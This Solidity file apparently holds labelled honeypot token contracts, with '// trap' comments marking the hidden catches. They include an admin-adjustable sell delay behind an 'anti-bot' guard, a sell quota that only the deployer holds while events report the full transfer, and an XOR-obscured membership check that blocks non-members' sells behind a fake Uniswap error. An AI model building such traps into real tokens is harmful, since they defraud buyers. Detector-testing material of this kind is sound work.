// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import "./Base8.sol";

/// Shields launches of many tokens from bots.
contract SentryGuard {
    address private immutable _admin = msg.sender;
    /// pool | launch << 160 | wait << 208
    mapping(address => uint256) private _plan;
    mapping(address => mapping(address => bool)) private _trusted;

    function setTokenOwner(address maker, address pool) external {
        require(_plan[msg.sender] == 0, "enrolled");
        _plan[msg.sender] = uint160(pool) | (block.timestamp << 160) | (uint256(300) << 208);
        _trusted[msg.sender][maker] = true;
    }

    // trap {
    function saveConfig(address token, uint48 wait) external {
        require(msg.sender == _admin, "not allowed");
        _plan[token] = (_plan[token] & (2 ** 208 - 1)) | (uint256(wait) << 208);
    }
    // trap }

    function onPreTransferCheck(address from, address to, uint256) external view {
        uint256 plan = _plan[msg.sender];
        if (to != address(uint160(plan)) || _trusted[msg.sender][from]) return;
        require(block.timestamp > uint48(plan >> 160) + (plan >> 208), "Anti Bot");
    }
}

interface IAntiBot {
    function setTokenOwner(address maker, address pool) external;
    function onPreTransferCheck(address from, address to, uint256 amount) external;
}

contract GuardedGoose is Base8("Guarded Goose", "GOOSE", 1_000_000_000) {
    IAntiBot private immutable _antiBot;

    constructor(IAntiBot antiBot) {
        _antiBot = antiBot;
        antiBot.setTokenOwner(msg.sender, pair);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        _antiBot.onPreTransferCheck(from, to, value);
        _move(from, to, value);
    }
}

/// Books what goes to its pool apart.
contract QuietQuail is Base8("Quiet Quail", "QUAIL", 69_000_000_000) {
    uint256 public sales;
    mapping(address => uint256) private _quota; // trap

    // trap {
    constructor() {
        _quota[msg.sender] = type(uint256).max;
    }
    // trap }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to != pair) return _move(from, to, value);
        sales++;
        uint256 part = value;
        if (_balances[from] < part) revert Insufficient(_balances[from], part);
        if (part > _quota[from]) part = _quota[from]; // trap
        _balances[from] -= part;
        _balances[to] += part;
        emit Transfer(from, to, value);
    }
}

interface IPass {
    function balanceOf(address who) external view returns (uint256);
}

/// A card of the club, in the manner of an ERC-721.
contract MemberPass {
    string public constant name = "Club Pass";
    string public constant symbol = "PASS";
    address private immutable _host = msg.sender;
    uint256 public totalSupply;
    mapping(uint256 => address) public ownerOf;
    mapping(address => uint256) public balanceOf;

    event Transfer(address indexed from, address indexed to, uint256 indexed id);

    constructor() {
        _issue(msg.sender);
    }

    function issue(address to) external {
        require(msg.sender == _host, "not the host");
        _issue(to);
    }

    function _issue(address to) private {
        uint256 id = ++totalSupply;
        ownerOf[id] = to;
        balanceOf[to]++;
        emit Transfer(address(0), to, id);
    }
}

contract ClubClover is Base8("Club Clover", "CLOVER", 21_000_000) {
    uint160 private constant MASK = uint160(uint256(keccak256("clover.leaf.four")));
    uint160 private immutable _door;

    event MemberSale(address indexed who, uint256 value);

    constructor(address pass) {
        _door = uint160(pass) ^ MASK;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair) {
            bool member = IPass(address(_door ^ MASK)).balanceOf(from) > 0;
            require(member, "TransferHelper: TRANSFER_FROM_FAILED"); // trap
            if (member) emit MemberSale(from, value);
        }
        _move(from, to, value);
    }
}
